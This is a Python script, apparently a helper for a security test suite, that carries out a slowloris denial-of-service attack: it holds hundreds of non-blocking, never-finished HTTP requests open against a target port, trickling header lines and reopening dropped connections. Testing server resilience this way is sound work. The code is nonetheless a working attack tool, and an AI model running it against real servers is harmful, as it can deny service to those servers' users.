#!/usr/bin/env python3
"""slow_http_attack: hold many slow, half-sent HTTP requests against one
port, as an outsider on the metro network would (slowloris), for
tests/security/slow_http.sh.

Keeps --conns connections open to --target, spread over the --sources
addresses (bound one after the other), each sending the start of a request
head and then one more header line every --every seconds, never the blank
line that ends the head. A connection the server closes is counted and
opened again at the next tick, so the attack keeps the pressure on for
--duration seconds (or until SIGTERM). Non-blocking throughout: one process holds hundreds of
connections. At the end it prints one JSON line: what it opened, what the
server closed or refused, and what was still open.
"""
import argparse
import errno
import json
import selectors
import signal
import socket
import sys
import time

HEAD = b"GET / HTTP/1.1\r\nHost: victim\r\nUser-Agent: slow\r\n"
LINE = b"X-Slow: 1\r\n"


class Attack:
    def __init__(self, args):
        self.args = args
        self.sources = [s for s in args.sources.split(",") if s]
        self.sel = selectors.DefaultSelector()
        self.slots = [None] * args.conns  # socket or None
        self.state = {}  # socket -> "connecting" | "open"
        self.n = {"opened": 0, "connected": 0, "closed_by_server": 0, "failed": 0}
        self.stop = False
        signal.signal(signal.SIGTERM, self.on_term)

    def on_term(self, signo, frame):
        self.stop = True

    def open(self, i):
        src = self.sources[i % len(self.sources)]
        fam = socket.AF_INET6 if ":" in self.args.target else socket.AF_INET
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((src, 0))
            rc = s.connect_ex((self.args.target, self.args.port))
        except OSError:
            s.close()
            self.n["failed"] += 1
            return
        if rc not in (0, errno.EINPROGRESS):
            s.close()
            self.n["failed"] += 1
            return
        self.slots[i] = s
        self.state[s] = "connecting"
        self.sel.register(s, selectors.EVENT_WRITE, i)
        self.n["opened"] += 1

    def drop(self, s, by_server):
        i = self.sel.get_key(s).data
        self.sel.unregister(s)
        s.close()
        self.slots[i] = None
        del self.state[s]
        if by_server:
            self.n["closed_by_server"] += 1

    def on_event(self, s, i, mask):
        if self.state[s] == "connecting":
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                self.n["failed"] += 1
                self.drop(s, False)
                return
            self.state[s] = "open"
            self.n["connected"] += 1
            self.sel.modify(s, selectors.EVENT_READ, i)
            self.send(s, HEAD)
            return
        try:
            data = s.recv(4096)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data:  # closed, refused (a 503 then the end) or reset
            self.drop(s, True)

    def send(self, s, data):
        try:
            s.send(data)
        except BlockingIOError:
            pass
        except OSError:
            self.drop(s, True)

    def tick(self):
        for i, s in enumerate(self.slots):
            if s is None:
                self.open(i)
            elif self.state.get(s) == "open":
                self.send(s, LINE)

    def run(self):
        end = time.monotonic() + self.args.duration
        next_tick = 0.0
        while True:
            now = time.monotonic()
            if now >= end or self.stop:
                break
            if now >= next_tick:
                next_tick = now + self.args.every
                self.tick()
            wait = max(0.0, min(next_tick, end) - time.monotonic())
            for key, mask in self.sel.select(timeout=wait):
                if key.fileobj in self.state:
                    self.on_event(key.fileobj, key.data, mask)
        self.n["open_at_end"] = sum(1 for s in self.slots if s is not None and self.state.get(s) == "open")
        print(json.dumps(self.n), flush=True)


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--target", required=True, help="address of the victim")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--sources", required=True, help="comma-separated local addresses to connect from")
    p.add_argument("--conns", type=int, default=100, help="connections to hold")
    p.add_argument("--every", type=float, default=1.0, help="seconds between header lines")
    p.add_argument("--duration", type=float, default=20.0, help="seconds to keep it up")
    Attack(p.parse_args()).run()
    return 0


if __name__ == "__main__":
    sys.exit(main())
